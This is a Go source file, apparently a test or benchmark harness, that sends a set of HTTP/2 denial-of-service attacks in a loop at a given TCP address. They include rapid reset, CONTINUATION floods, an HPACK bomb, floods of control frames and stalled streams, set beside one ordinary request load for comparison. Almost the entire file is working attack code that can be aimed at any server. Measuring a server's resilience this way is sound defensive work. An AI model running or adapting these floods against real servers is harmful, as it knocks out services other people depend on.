package main

import (
	"bytes"
	"context"
	"io"
	"net"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// An attack is what a connection sends, again and again, until it ends.
type attack struct {
	name string
	// begin is sent once, and again with each round n (from 0), after the prefaces.
	begin func(b *batch)
	again func(b *batch, n uint32)
	// settings are the client's.
	settings []http2.Setting
	unread   bool // the answers are not read
}

var attacks = []attack{
	{name: "rapid reset", again: func(b *batch, n uint32) {
		for i := range uint32(100) {
			id := 2*(100*n+i) + 1
			b.get(id, "/hold", true)
			_ = b.WriteRSTStream(id, http2.ErrCodeCancel)
		}
	}},
	{name: "CONTINUATION", begin: func(b *batch) {
		_ = b.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: b.block("GET", "/x")})
	}, again: func(b *batch, _ uint32) {
		for range 100 {
			_ = b.WriteContinuation(1, false, []byte("\x00\x01x\x7f\x81\x07"+strings.Repeat("a", 1024)))
		}
	}},
	{name: "SETTINGS", again: hundred(func(b *batch) { _ = b.WriteSettings() })},
	{name: "SETTINGS, unread", again: hundred(func(b *batch) { _ = b.WriteSettings() }), unread: true},
	{name: "PING", again: hundred(func(b *batch) { _ = b.WritePing(false, [8]byte{}) })},
	{name: "WINDOW_UPDATE", again: hundred(func(b *batch) { _ = b.WriteWindowUpdate(0, 1) })},
	{name: "PRIORITY", again: hundred(func(b *batch) { _ = b.WritePriority(1, http2.PriorityParam{Weight: 1}) })},
	{name: "empty DATA", begin: func(b *batch) { b.get(1, "/unread", false) }, again: hundred(func(b *batch) { _ = b.WriteData(1, false, nil) })},
	{name: "HPACK bomb", begin: func(b *batch) {
		_ = b.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, EndStream: true, EndHeaders: true,
			BlockFragment: append(b.block("GET", "/x"), "\x40\x06x-bomb\x7f\x81\x1e"+strings.Repeat("b", 3968)...)})
	}, again: func(b *batch, n uint32) {
		_ = b.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*n + 3, EndStream: true, EndHeaders: true, BlockFragment: []byte(strings.Repeat("\xbe", 16_000))})
	}},
	{name: "stalled streams", settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, begin: func(b *batch) {
		for i := range uint32(100) {
			b.get(2*i+1, "/bytes", true)
		}
	}},
	// for comparison: this is no attack
	{name: "requests, as many as are answered", again: func(b *batch, n uint32) {
		for i := range uint32(50) {
			b.get(2*(50*n+i)+1, "/x", true)
		}
	}},
}

func hundred(write func(b *batch)) func(b *batch, n uint32) {
	return func(b *batch, _ uint32) {
		for range 100 {
			write(b)
		}
	}
}

// A batch collects frames, to be written at once.
type batch struct {
	bytes.Buffer
	*http2.Framer
	encoded bytes.Buffer
}

// block returns a request's fields, which are not indexed.
func (b *batch) block(method, path string) []byte {
	b.encoded.Reset()
	enc := hpack.NewEncoder(&b.encoded)
	for _, f := range [][2]string{{":method", method}, {":scheme", "http"}, {":authority", "example.com"}, {":path", path}} {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true})
	}
	return bytes.Clone(b.encoded.Bytes())
}

func (b *batch) get(id uint32, path string, end bool) {
	_ = b.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: b.block("GET", path), EndStream: end, EndHeaders: true})
}

// run attacks until ctx ends, and returns how many connections it took.
func (a attack) run(ctx context.Context, address string) (conns int) {
	for ; ctx.Err() == nil; conns++ {
		c, err := net.Dial("tcp", address)
		if err != nil {
			return conns
		}
		stop := context.AfterFunc(ctx, func() { _ = c.Close() })
		a.on(c)
		stop()
		_ = c.Close()
	}
	return conns
}

// on attacks on one connection, until that ends.
func (a attack) on(c net.Conn) {
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		if !a.unread {
			_, _ = io.Copy(io.Discard, c)
		}
	}()
	b := new(batch)
	b.Framer = http2.NewFramer(&b.Buffer, nil)
	b.AllowIllegalWrites = true
	b.WriteString(http2.ClientPreface)
	_ = b.WriteSettings(a.settings...)
	if a.begin != nil {
		a.begin(b)
	}
	for n := uint32(0); ; n++ {
		if a.again != nil {
			a.again(b, n)
		}
		if _, err := c.Write(b.Bytes()); err != nil {
			break
		}
		b.Reset()
		if a.again == nil {
			break
		}
	}
	<-ended
}
